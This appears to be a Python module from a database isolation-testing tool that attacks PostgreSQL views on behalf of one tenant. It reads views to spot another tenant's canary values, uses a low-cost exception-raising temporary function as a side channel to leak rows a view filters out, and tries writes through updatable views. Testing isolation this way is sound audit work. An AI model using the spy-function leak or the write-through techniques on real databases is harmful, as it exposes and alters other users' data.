"""Attacks through what stands before the tables: views, materialised views and foreign tables, read and written."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cached_property

from psycopg import sql

from schemaproof.attack.arena import Arena
from schemaproof.attack.attackers import Attacker
from schemaproof.attack.campaign import Campaign
from schemaproof.attack.gain import Gain
from schemaproof.attack.marks import Canaries, Marks
from schemaproof.attack.standing import standing_as
from schemaproof.attack.statements import aside, insertion, matching, quoted, reading, removal, setting, text, update_at
from schemaproof.attack.trial import ties_of
from schemaproof.surface import Column, Relation

__all__ = ["views_attacked"]

_NO_INDEXES = (
    "set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off"
)
_SPY = """\
create function pg_temp.spy(text) returns boolean language plpgsql cost 0.0000001 as $spy$ begin\
 if $1 = any ({}) then raise exception 'seen: %', $1; end if; return true; end $spy$"""


def views_attacked(
    campaign: Campaign, attacker: Attacker, relations: Sequence[Relation], victim: str
) -> Iterator[tuple[Relation, Gain]]:
    """Read views, materialised views and foreign tables, and write through those that can be written."""
    arena = campaign.arena
    canaries = Canaries(arena, victim, known=campaign.visible_to(attacker))
    with standing_as(arena, attacker):
        for relation in relations:
            target = _Target(arena, attacker, relation, victim)
            for gain in (*_read(target, canaries), *_written(target)):
                yield relation, gain


@dataclass(frozen=True)
class _Target:
    """One view, who attacks it, and the table behind it."""

    arena: Arena
    attacker: Attacker
    relation: Relation
    victim: str

    @property
    def role(self) -> str:
        """Whom the attacker comes as."""
        return self.attacker.identity.role

    @cached_property
    def mentioned(self) -> list[Relation]:
        """The project's tables that the view's definition names."""
        definition = self.relation.definition or ""
        return [table for table in self.arena.discovery.tables if _names(definition, table)]

    @cached_property
    def base(self) -> Relation | None:
        """The owned table with the most of the view's columns, of those that it names."""
        tables = self.mentioned or list(self.arena.discovery.tables)
        wanted = {column.name for column in self.relation.columns}
        owned = [table for table in tables if table.label in self.arena.discovery.owned]
        return max(owned, key=lambda table: len(wanted & {c.name for c in table.columns}), default=None)

    @property
    def guarded(self) -> bool:
        """Tell whether it is a security barrier, or runs with its caller's rights."""
        return any(
            option.startswith("security_") and not option.endswith(("off", "false")) for option in self.relation.options
        )


def _names(definition: str, table: Relation) -> bool:
    return re.search(rf'(?<![\w"]){re.escape(table.label)}(?![\w"])', definition) is not None


def _read(target: _Target, canaries: Canaries) -> Iterator[Gain]:
    if not target.relation.lets(target.role, "select"):
        return
    statement = reading(target.relation, target.role)
    answer = target.arena.wire.run(statement)
    shown = canaries.shown(answer.rows)
    yield Gain(target.attacker, statement, answer, tuple(shown.items()))
    if not shown and target.relation.kind == "v" and not target.guarded:
        yield from _peeked(target, canaries)


def _peeked(target: _Target, canaries: Canaries) -> Iterator[Gain]:
    """A cheap function of the caller's in WHERE, which may be asked before the view's own condition.

    Indexes are off: a scan of the tenant's own rows would hide it (manual, Rules and Privileges).
    """
    relation, wire = target.relation, target.arena.wire
    for column, values in _telling(target, canaries):
        spy = text(_SPY, sql.Literal(values))
        wire.back()
        wire.after(_NO_INDEXES)
        if wire.after(spy).sqlstate is not None:
            return
        statement = text("select 1 from {} where pg_temp.spy({}::text)", relation.identifier, sql.Identifier(column))
        answer = wire.after(statement)
        if found := canaries.shown([(answer.message,)]):
            yield Gain(target.attacker, f"{spy};\n{statement}", answer, tuple(found.items()))


def _telling(target: _Target, canaries: Canaries) -> list[tuple[str, list[str]]]:
    """Columns of text that hold values of nobody but the victim, with these."""
    if target.base is None:
        return []
    texts = [
        column.name
        for column in target.relation.allowed(target.role, "select")
        if column.type in ("text", "character varying", "uuid")
    ]
    found = [(name, canaries.of(f"{target.base.label}.{name}")) for name in texts]
    return [(name, values) for name, values in found if values][:2]


def _written(target: _Target) -> Iterator[Gain]:
    arena, base = target.arena, target.base
    if base is None or target.relation.kind != "v":
        return
    marks = Marks(arena, target.mentioned or [base], target.victim)
    arena.wire.back()
    marks.take()
    twin = _twin(target, base)
    for statement in _writes(target, base):
        if statement.startswith("insert"):
            yield _inserted(target, base, marks, statement)
        else:
            yield _changed(target, marks, statement, twin)


def _changed(target: _Target, marks: Marks, statement: str, twin: str) -> Gain:
    wire = target.arena.wire
    answer = wire.run(statement)
    if twin and answer.sqlstate is None and answer.count and not marks.changed():
        wire.back()
        wire.after(twin)
        answer = wire.after(statement)
    return Gain(target.attacker, statement, answer, changed=() if answer.sqlstate else marks.changed())


def _inserted(target: _Target, base: Relation, marks: Marks, statement: str) -> Gain:
    """Insert a row of the victim's that was taken away: a constraint would speak before the view's check option."""
    wire, row = target.arena.wire, target.arena.held(base.label, target.victim)[-1]
    wire.back()
    wire.after(aside(target.role, removal(base, row.place)))
    before = marks.now()
    wire.after(f"set local role {quoted(target.role)}")
    answer = wire.after(statement)
    return Gain(target.attacker, statement, answer, changed=() if answer.sqlstate else marks.changed(since=before))


def _twin(target: _Target, base: Relation) -> str:
    """A statement that gives the attacker's own row the victim's values where two rows may share them."""
    arena = target.arena
    own, theirs = (arena.held(base.label, world) for world in (target.attacker.world or "", target.victim))
    fixed = set(ties_of(arena, base)) | set(base.key) | {name for fk in base.foreign_keys for name, _ in fk.columns}
    single = {key.columns[0] for key in base.keys if len(key.columns) == 1}
    names = [c.name for c in base.columns if c.writable and c.name not in fixed | single]
    if not own or not theirs or not names:
        return ""
    return aside(target.role, update_at(base, names, theirs[-1].values, own[0].place))


def _writes(target: _Target, base: Relation) -> Iterator[str]:
    """Statements that write the victim's values through the view."""
    rows = target.arena.held(base.label, target.victim)
    if not rows:
        return
    relation, values = target.relation, rows[-1].values
    shared = [column for column in relation.columns if column.name in values]
    key = [column.name for column in shared if column.name in base.key]
    if relation.lets(target.role, "update"):
        yield from _updates(target, base, shared, key)
    if relation.lets(target.role, "delete"):
        yield text("delete from {}", relation.identifier)
        if shared:
            where = matching(key or [shared[0].name], values, as_text=True)
            yield text("delete from {} where {}", relation.identifier, where)
    insertable = [column.name for column in shared if (target.role, "insert") in column.may]
    if relation.lets(target.role, "insert") and insertable:
        yield insertion(relation, insertable, values)


def _updates(target: _Target, base: Relation, shared: Sequence[Column], key: Sequence[str]) -> Iterator[str]:
    values, view = target.arena.held(base.label, target.victim)[-1].values, target.relation.identifier
    columns = [column.name for column in shared if (target.role, "update") in column.may]
    plain = sorted(columns, key=lambda name: name in base.key)
    ties = [name for name in columns if name in ties_of(target.arena, base)]
    for name in (*plain[:3], *ties[:1]):
        yield text("update {} set {}", view, setting([name], values))
    if plain and key:
        where = matching(key, values, as_text=True)
        yield text("update {} set {} where {}", view, setting(plain[:1], values), where)
